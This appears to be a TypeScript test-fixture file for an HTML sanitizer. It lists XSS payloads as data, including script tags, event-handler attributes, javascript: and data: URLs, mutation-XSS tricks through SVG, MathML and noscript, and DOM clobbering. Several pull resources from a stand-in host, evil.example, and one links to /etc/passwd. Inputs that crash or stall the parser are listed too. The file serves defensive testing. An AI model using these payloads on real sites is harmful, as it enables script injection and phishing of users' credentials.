/** The script that hostile markup tries to run: tests check `window.wasRun`. */
const RUN = 'window.wasRun = true';
const ELSEWHERE = 'https://evil.example';

const numbered = (count: number, text: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => text(index)).join('');

/** Markup that tries to run, load, navigate, prompt, or imitate a part of the window. The sanitizer leaves text at most. */
export const HOSTILE_MARKUP: readonly string[] = [
  `<script>${RUN}</script><script src="${ELSEWHERE}/a.js"></script>`,
  `<img src="${ELSEWHERE}/a.png" onerror="${RUN}"><img src=x onerror="${RUN}"><img srcset="${ELSEWHERE}/h.png 1x">`,
  `<p id="root" class="primary message" style="position:fixed;inset:0" role="alertdialog" data-message-id="x" data-view="login" aria-label="OK" name="y" tabindex="1" onclick="${RUN}">words</p>`,
  `<a href="javascript:${RUN}">a</a><a href=" java\nscript:${RUN}">b</a><a href="data:text/html,<script>${RUN}</script>">c</a><a href="file:///etc/passwd">d</a>`,
  `<iframe src="${ELSEWHERE}/"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<form action="${ELSEWHERE}/"><input name="password" autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">OK</button><textarea>t</textarea><select><option>o</option></select></form>`,
  `<style>@import "${ELSEWHERE}/a.css"; main { display: none }</style><link rel="stylesheet" href="${ELSEWHERE}/b.css"><base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
  `<svg onload="${RUN}"><a xlink:href="javascript:${RUN}"><text>s</text></a><image href="${ELSEWHERE}/c.png"/><animate onbegin="${RUN}" attributeName="x"/><use href="data:image/svg+xml,x#a"/></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg><svg></p><style><a title="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${RUN}"></style></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">n</p></noscript>`,
  `<template><img src=x onerror="${RUN}"></template><template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<video src="${ELSEWHERE}/d.mp4" poster="${ELSEWHERE}/e.png" autoplay onloadstart="${RUN}"></video><audio src="${ELSEWHERE}/a"></audio>`,
  `<object data="${ELSEWHERE}/f"></object><embed src="${ELSEWHERE}/g"><table background="${ELSEWHERE}/i.png"><tr><td>t</td></tr></table>`,
  `<form id="attributes"><input name="parentNode"><input name="removeChild"><img name="childNodes"></form><img name="body"><img name="write"><img name="close"><img name="querySelector">`,
  `<form><input name="attributes"><input name="nodeName"><input name="localName"><input name="cloneNode"><input name="nodeType">f</form>`,
  `<x-y is="p" onclick="${RUN}">custom</x-y><details ontoggle="${RUN}" open>d</details><marquee onstart="${RUN}">m</marquee><dialog open>dialog</dialog>`,
  `<select><button><selectedcontent></selectedcontent></button><option>o<img src=x onerror="${RUN}"></option></select>`,
];

/** Markup that would replace the whole document of a page. */
const FRAMESETS = ['<frameset>', '<frameset><frame src="x"></frameset><p>kept</p>'] as const;

/** Invalid or unusual markup that a browser parses to a small tree. */
export const STRANGE_MARKUP: readonly string[] = [
  ...FRAMESETS,
  '<html>',
  '<head>',
  '<body>',
  '<body onload=1><body class=x>',
  '<!doctype html><!-- only a comment -->',
  '<!-- -- --!> <![CDATA[x]]> <?xml version="1.0"?>',
  '<template>',
  '<plaintext>',
  '<textarea><p>',
  '<title><p>',
  '<table><tr><p>x<table>',
  '<svg>',
  '<svg><foreignObject><math><mtext><frameset>',
  '\0',
  '<p\0>\0<\0b>x</\0b>',
  '\uFEFF<p>\uD800</p>\uDFFF',
  '&#0;&#xD800;&#x110000;&notit;&',
  '<',
  '</',
  '<a',
  '<a href="',
  '<b><p></b><i></p></i>',
];

/** Markup that a browser parses to a tree that is too large or too deep, or that takes too long to parse. */
export const HUGE_MARKUP: Readonly<Record<string, string>> = {
  'formatting elements that are repeated in each block': `<p>${numbered(200, (index) => `<b a${index}>`)}</p>${'<p>x'.repeat(2000)}`,
  'the same with all their attributes': `<p><b ${numbered(1000, (index) => `a${index} `)}></p>${'<p>x'.repeat(1000)}`,
  'the same at 43 KB': `<p>${numbered(2000, (index) => `<b a${index}>`)}</p>${'<p>x'.repeat(6000)}`,
  'elements nested 6,000 levels deep': '<div>'.repeat(6000),
  'formatting elements closed across blocks': '<b><i><a><p></b></i></a>'.repeat(6000),
  'very many elements': '<br>'.repeat(40_000),
  'very many attributes': `<p ${numbered(28_000, (index) => `a${index} `)}>x`,
  'attributes added to the body': numbered(9000, (index) => `<body a${index}>`),
  'very many comments': '<!>'.repeat(40_000),
  'a page of ten million characters': '<b>x</b>'.repeat(1_250_000),
};

/** Markup that could make a window unusable: it replaces the document, or is too large. */
export const WINDOW_BREAKING_MARKUP: readonly string[] = [...FRAMESETS, ...Object.values(HUGE_MARKUP)];
